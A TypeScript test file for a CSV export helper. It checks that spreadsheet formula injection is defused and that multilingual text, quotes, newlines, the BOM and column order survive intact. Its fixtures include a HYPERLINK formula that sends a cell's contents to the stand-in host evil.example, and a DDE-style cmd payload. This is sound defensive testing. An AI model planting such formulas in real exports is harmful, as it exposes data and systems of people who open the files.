import Papa from "papaparse";
import { describe, expect, it } from "vitest";
import { escapeCsvCell, toCsv } from "~/security/csv";

const BOM = "\uFEFF";

/** What a spreadsheet program would put in each cell (minus the BOM). */
function cells(csv: string): string[][] {
  const parsed = Papa.parse<string[]>(csv.replace(/^\uFEFF/, ""), { newline: "\r\n", delimiter: ",", skipEmptyLines: false });
  expect(csv.endsWith("\r\n")).toBe(true);
  expect(parsed.errors).toEqual([]);
  // The final CRLF ends the last record; it does not start an empty one.
  return parsed.data.slice(0, -1);
}

describe("toCsv: formula injection (OWASP)", () => {
  it("defuses participant answers that a spreadsheet would run as formulas", () => {
    const answers = [
      '=HYPERLINK("http://evil.example/?"&A1,"Click")',
      "+1+cmd|' /C calc'!A0",
      "-2+3",
      "@SUM(1,2)",
      "\t=1+1",
      "\r=1+1",
      "\n=1+1",
      "\nplain after a line feed",
      "\0=1+1",
      "   =1+2",
      "\u00A0=1+2",
      "＝1+2",
      "-1+2",
      "-5",
    ];
    const out = cells(
      toCsv(
        answers.map((a) => ({ answer: a })),
        { bom: false },
      ),
    );
    expect(out[0]).toEqual(["answer"]);
    expect(out.slice(1).map((r) => r[0])).toEqual(answers.map((a) => `'${a}`));
  });

  it("leaves ordinary text alone, including text with = or - later on", () => {
    const safe = ["We said, you did", "a=b", "2-3 times a week", "email me@example.org", "'already quoted", ""];
    const out = cells(
      toCsv(
        safe.map((a) => [a]),
        { bom: false },
      ),
    );
    expect(out.map((r) => r[0])).toEqual(safe);
  });

  it("keeps numbers as numbers (no quote mark in front), including negative ones", () => {
    const csv = toCsv([{ score: -3, change: -0.5, n: 12, big: 12345678901234567890n, ok: true }], { bom: false });
    expect(csv).toBe('"score","change","n","big","ok"\r\n"-3","-0.5","12","12345678901234567890","true"\r\n');
  });

  it("defuses dangerous column names too", () => {
    expect(cells(toCsv([{ "=cmd": 1 }], { bom: false }))[0]).toEqual(["'=cmd"]);
  });

  it("defuses JSON of nested values that would start with a dangerous character", () => {
    expect(escapeCsvCell(["=x"])).toBe('["=x"]');
    expect(escapeCsvCell(-1)).toBe(-1);
    expect(escapeCsvCell("-1")).toBe("'-1");
  });
});

describe("toCsv: text survives intact", () => {
  const rows = [
    { id: 1, quote: 'شكراً لكم على الدعم، "كل شيء" أفضل الآن' },
    { id: 2, quote: "Dw i'n hapus iawn yn Abertawe — ŵ ŷ Ŵ Ŷ" },
    { id: 3, quote: "Line one\r\nline two\nline three" },
    { id: 4, quote: 'She said "yes", then, "no"' },
    { id: 5, quote: "🙏🏽 family 👨‍👩‍👧 safe" },
  ];

  it("round-trips Arabic, Welsh, emoji, quotes, commas and newlines", () => {
    const out = cells(toCsv(rows));
    expect(out[0]).toEqual(["id", "quote"]);
    expect(out.slice(1)).toEqual(rows.map((r) => [String(r.id), r.quote]));
  });

  it("starts with a UTF-8 BOM by default so Excel reads Arabic and Welsh correctly, and can omit it", () => {
    expect(toCsv(rows).startsWith(BOM)).toBe(true);
    expect(Buffer.from(toCsv(rows), "utf8").subarray(0, 3)).toEqual(Buffer.from([0xef, 0xbb, 0xbf]));
    expect(toCsv(rows, { bom: false }).startsWith(BOM)).toBe(false);
  });

  it("ends records with CRLF and quotes every cell", () => {
    const csv = toCsv([{ a: "x,y", b: 'say "hi"', c: "plain" }], { bom: false });
    expect(csv).toBe('"a","b","c"\r\n"x,y","say ""hi""","plain"\r\n');
  });
});

describe("toCsv: shape", () => {
  it("follows the requested column order and leaves missing answers empty", () => {
    const csv = toCsv([{ b: 2, a: 1 }, { a: 3 }], { columns: ["a", "b"], bom: false });
    expect(csv).toBe('"a","b"\r\n"1","2"\r\n"3",""\r\n');
  });

  it("does not drop a key that only later rows have", () => {
    const out = cells(toCsv([{ a: 1 }, { a: 2, later: "x" }], { bom: false }));
    expect(out).toEqual([
      ["a", "later"],
      ["1", ""],
      ["2", "x"],
    ]);
  });

  it("writes array rows with an optional header", () => {
    expect(
      toCsv(
        [
          [1, "=a"],
          [null, undefined],
        ],
        { bom: false },
      ),
    ).toBe('"1","\'=a"\r\n"",""\r\n');
    expect(toCsv([[1, 2]], { columns: ["x", "y"], bom: false })).toBe('"x","y"\r\n"1","2"\r\n');
  });

  it("writes dates as ISO 8601 and no rows as just the header", () => {
    expect(toCsv([{ at: new Date(Date.UTC(2024, 2, 12, 9, 30)) }], { bom: false })).toBe('"at"\r\n"2024-03-12T09:30:00.000Z"\r\n');
    expect(toCsv([], { columns: ["a", "b"], bom: false })).toBe('"a","b"\r\n');
    expect(toCsv([], { bom: false })).toBe("");
  });
});
